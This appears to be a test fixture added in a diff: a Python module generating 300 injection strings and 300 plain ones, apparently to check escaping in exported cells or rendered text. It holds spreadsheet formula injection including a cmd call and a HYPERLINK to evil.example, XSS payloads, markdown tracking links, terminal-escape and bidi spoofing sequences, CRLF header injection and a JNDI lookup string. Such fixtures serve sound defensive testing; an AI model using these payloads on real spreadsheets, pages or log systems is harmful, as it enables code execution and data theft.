@@ -1,0 +1,86 @@
+"""Three hundred texts that do harm where they are not taken as words, and as many that do none."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+_TEMPLATES = (
+    "={m}+1",
+    "+{m}",
+    "-{m}",
+    "@{m}",
+    "@SUM({m})",
+    "＝{m}",
+    "＋{m}",
+    "－{m}",
+    "＠{m}",
+    "\t={m}",
+    "\r={m}",
+    "\n={m}",
+    " ={m}",
+    "\ufeff={m}",
+    "=cmd|'/C calc'!{m}",
+    '=HYPERLINK("http://evil.example/{m}","x")',
+    '{m}","=1+1',
+    "{m};=1+1",
+    "<script>alert('{m}')</script>",
+    "</script><script>{m}</script>",
+    "<img src=x onerror=alert({m})>",
+    "<svg/onload={m}>",
+    '"><iframe src="javascript:{m}">',
+    "'><a href='javascript:{m}'>x</a>",
+    "<!-- {m} -->",
+    "]]>{m}<![CDATA[",
+    "<style>{m}</style>",
+    "</title>{m}",
+    "&lt;b&gt;{m}&amp;",
+    "&#60;script&#62;{m}",
+    "[{m}](javascript:alert(1))",
+    "[{m}](data:text/html,x)",
+    "![{m}](http://track.example/p.png)",
+    "![{m}][1]\n\n[1]: http://track.example/p.png",
+    "<http://evil.example/{m}>",
+    "<{m}@evil.example>",
+    "http://evil.com/{m}",
+    "www.evil.com/{m}",
+    "evil.com {m}",
+    "//evil.com/{m}",
+    "pat{m}@mail.com",
+    "mailto:pat{m}@mail.com",
+    "javascript:alert({m})",
+    "data:text/html;base64,{m}",
+    "file:///etc/{m}",
+    "a | {m} | c",
+    "|---|{m}",
+    "\\| {m} \\",
+    "# {m}",
+    "- {m}\n- [ ] x",
+    "1. {m}",
+    "---\n{m}\n===",
+    "> {m}",
+    "```\n{m}\n```",
+    "    {m}",
+    "`{m}` ``x`` `",
+    "*{m}* _x_ ~~y~~ **z**",
+    "\x1b[31m{m}\x1b]0;t\x07\x1b]8;;http://evil.example\x1b\\",
+    "\x9b31m{m}\x90x\x9c",
+    "\u202e{m}\u2066gnp.exe\u2069",
+    "{m}\u2028x\u2029y\x85z",
+    "{m}\r\nInjected: header",
+    "{m}\x00\x08\x7f",
+    "\u200b{m}\u200d\ufeff\U000e0041",
+    "{{{{{m}}}}} {{0}} %s ${{jndi:ldap://x/{m}}}",
+)
+_WRAPS: tuple[Callable[[str], str], ...] = (
+    str,
+    lambda text: f" {text}",
+    lambda text: f"{text} and more",
+    lambda text: f"We say {text}",
+    lambda text: f"{text}\n{text}",
+)
+CELLS = tuple(
+    wrap(template.format(m=f"cell{number}x{turn}"))
+    for turn, wrap in enumerate(_WRAPS)
+    for number, template in enumerate(_TEMPLATES)
+)[:300]
+BENIGN = tuple(f"plain cell{number} words" for number in range(len(CELLS)))
